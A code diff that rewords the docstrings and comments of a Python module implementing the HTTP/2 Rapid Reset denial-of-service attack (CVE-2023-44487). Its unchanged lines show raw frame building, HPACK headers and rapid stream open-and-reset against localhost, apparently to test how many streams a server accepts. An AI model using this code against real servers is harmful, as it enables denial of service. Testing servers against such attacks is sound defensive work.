@@ -1,4 +1,4 @@
-"""The attack of CVE-2023-44487: a client of HTTP/2 that resets its streams as fast as it opens them."""
+"""The attack of CVE-2023-44487: an HTTP/2 client opens streams and resets each one at once, as fast as it can."""
 
 from __future__ import annotations
 
@@ -7,8 +7,8 @@ import ssl
 import struct
 
 RESET_STREAMS = 2_000
-_RST_STREAM, _GOAWAY = 3, 7  # types of frames (RFC 9113, section 6)
-_REFUSED_STREAM = 7  # an error code (RFC 9113, section 7)
+_RST_STREAM, _GOAWAY = 3, 7  # Types of HTTP/2 frames (RFC 9113, section 6).
+_REFUSED_STREAM = 7  # An HTTP/2 error code (RFC 9113, section 7).
 
 
 def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
@@ -17,11 +17,11 @@ def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
 
 
 def reset_streams(attacker: ssl.SSLSocket) -> int:
-    """Opens and resets RESET_STREAMS streams on a new connection, each with a request for `/reset`. Returns how many of
-    the streams the server accepted before it refused more.
+    """Opens RESET_STREAMS streams on a new connection, each with a request for `/reset`, and resets each stream at
+    once. Returns the number of streams that the server accepted.
     """
-    # The request headers in HPACK (RFC 7541). Two indexes of HPACK's static table stand for the method GET and the
-    # scheme https. The path and the host follow as literal values.
+    # The request headers in the format HPACK (RFC 7541). The first two bytes are indexes in HPACK's static table: the
+    # method GET and the scheme https. The path and the host follow as literal values.
     headers = b"\x82\x87" + b"\x04\x06/reset" + b"\x41\x09localhost"
     cancel = struct.pack(">I", 8)
     streams = range(1, 2 * RESET_STREAMS + 1, 2)
@@ -31,8 +31,9 @@ def reset_streams(attacker: ssl.SSLSocket) -> int:
 
 
 def _accepted(attacker: socket.socket) -> int:
-    """Returns how many streams the server accepted. These are the streams up to the number in the server's GOAWAY
-    frame, except those that the server refused because too many were open (RFC 9113, sections 6.8 and 8.7).
+    """Returns how many streams the server accepted. The server's GOAWAY frame names the last stream that the server
+    processed. Earlier streams count, except for those that the server refused with REFUSED_STREAM (RFC 9113, sections
+    6.8 and 8.7).
     """
     received, refused = b"", 0
     while part := attacker.recv(1 << 16):
